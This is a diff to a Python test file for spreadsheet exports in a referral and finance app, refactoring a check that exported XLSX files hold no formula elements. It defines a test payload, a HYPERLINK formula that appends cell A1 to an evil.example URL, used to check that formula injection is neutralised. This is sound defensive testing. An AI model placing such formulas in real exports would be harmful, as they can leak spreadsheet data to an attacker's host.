@@ -5,7 +5,6 @@ requester can download it."""
 from __future__ import annotations
 
 import io
-import zipfile
 from datetime import timedelta
 
 import pytest
@@ -25,6 +24,7 @@ from referral import ledger, payouts
 from tests.factories import make_customer, make_org, make_staff
 from tests.finance_support import V, make_world, working_agreement
 from tests.test_admin_support import console_client, log_in
+from tests.test_exports_formula_injection import assert_no_formula_in_xlsx
 
 FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1,\"点我\")"
 
@@ -44,8 +44,7 @@ def export(session, viewer, kind: str, params: dict) -> tuple[ExportJob, list[tu
     session.refresh(job)
     path = export_jobs.file_path(job)
     data = path.read_bytes()
-    with zipfile.ZipFile(io.BytesIO(data)) as z:  # never a formula element, whatever the cells hold
-        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
+    assert_no_formula_in_xlsx(data)  # never a formula element, whatever the cells hold
     rows = list(load_workbook(io.BytesIO(data), read_only=True).worksheets[0].iter_rows(values_only=True))
     assert job.total_rows == job.done_rows == len(rows) - 1
     return job, rows
